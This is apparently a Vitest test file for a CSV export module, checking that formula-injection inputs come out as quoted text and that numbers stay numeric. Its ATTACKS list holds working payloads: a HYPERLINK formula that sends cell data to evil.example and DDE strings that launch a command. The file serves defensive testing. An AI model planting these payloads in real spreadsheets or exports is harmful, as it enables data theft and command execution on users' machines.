// CSV formula injection: text a rep typed (a deal source, a loss reason) must reach a head's
// spreadsheet as text, never as a formula; numbers, negative ones included, stay numbers.
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { tableToCsv, type TableModel } from "@/components/charts/table-model";
import { toCsv } from "./csv";

const parse = (csv: string) => Papa.parse<string[]>(csv.trim(), { skipEmptyLines: true }).data;

const ATTACKS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "-",
];

describe("toCsv", () => {
  it.each(ATTACKS)("writes %j as text (a leading apostrophe)", (attack) => {
    const [, row] = parse(toCsv(["source"], [[attack]]));
    expect(row).toEqual([`'${attack}`]);
  });

  it("keeps numbers and plain negative numbers numeric, and ordinary text as it is", () => {
    const [, row] = parse(toCsv(["a", "b", "c", "d", "e", "f"], [[-1250.5, 0, "-12.5", "-7", "Реклама в Яндексе", "a=b"]]));
    expect(row).toEqual(["-1250.5", "0", "-12.5", "-7", "Реклама в Яндексе", "a=b"]);
  });

  it("neutralizes header cells too (column labels can be stage names an admin typed)", () => {
    const [header] = parse(toCsv(["=1+1", "Stage"], []));
    expect(header).toEqual(["'=1+1", "Stage"]);
  });

  it("writes empty cells for null and undefined", () => {
    expect(toCsv(["a", "b"], [[null, undefined]])).toBe("a,b\r\n,");
  });
});

describe("the analytics CSV download", () => {
  const table: TableModel = {
    currency: "RUB",
    columns: [
      { key: "source", label: "Source", kind: "text" },
      { key: "reason", label: "Loss reason", kind: "text" },
      { key: "lost", label: "Lost value", kind: "money" },
      { key: "change", label: "Change", kind: "percent" },
    ],
    rows: [
      { key: "1", cells: ['=HYPERLINK("http://evil.example","Open")', "@evil", -125_050, -0.123] },
      { key: "2", cells: ["ads", "Дорого", 990_000, 0.5] },
    ],
  };

  it("writes planted formulas as text and money and percentages as numbers", () => {
    expect(parse(tableToCsv(table))).toEqual([
      ["Source", "Loss reason", "Lost value (RUB)", "Change (%)"],
      ['\'=HYPERLINK("http://evil.example","Open")', "'@evil", "-1250.5", "-12.3"],
      ["ads", "Дорого", "9900", "50"],
    ]);
  });
});

describe("one CSV writer", () => {
  it("nothing else in the app calls papaparse's unparse (every export goes through toCsv)", async () => {
    const { readdir, readFile } = await import("node:fs/promises");
    const path = await import("node:path");
    const root = path.resolve(__dirname, "../..");
    const offenders: string[] = [];
    async function walk(dir: string): Promise<void> {
      for (const entry of await readdir(dir, { withFileTypes: true })) {
        const full = path.join(dir, entry.name);
        if (entry.isDirectory()) {
          if (!["node_modules", "generated", ".next"].includes(entry.name) && !entry.name.startsWith(".")) await walk(full);
        } else if (/\.(ts|tsx|mjs)$/.test(entry.name) && !entry.name.endsWith(".test.ts")) {
          if (/\bunparse\s*\(/.test(await readFile(full, "utf8"))) offenders.push(path.relative(root, full));
        }
      }
    }
    for (const dir of ["app", "components", "lib", "bench", "prisma"]) await walk(path.join(root, dir));
    expect(offenders).toEqual(["lib/format/csv.ts"]);
  });
});
